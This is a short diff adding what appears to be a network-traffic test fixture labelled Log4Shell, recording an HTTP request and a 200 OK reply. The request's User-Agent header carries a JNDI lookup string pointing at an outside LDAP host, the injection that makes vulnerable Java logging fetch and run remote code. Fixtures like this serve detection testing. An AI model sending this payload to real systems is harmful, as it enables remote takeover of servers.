@@ -1,0 +1,16 @@
+# Log4Shell, JNDI lookup in a header.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:80
+
+>>>
+GET / HTTP/1.1\r\n
+Host: shop.example\r\n
+User-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n
+\r\n
+
+<<<
+HTTP/1.1 200 OK\r\n
+Content-Length: 2\r\n
+\r\n
+ok
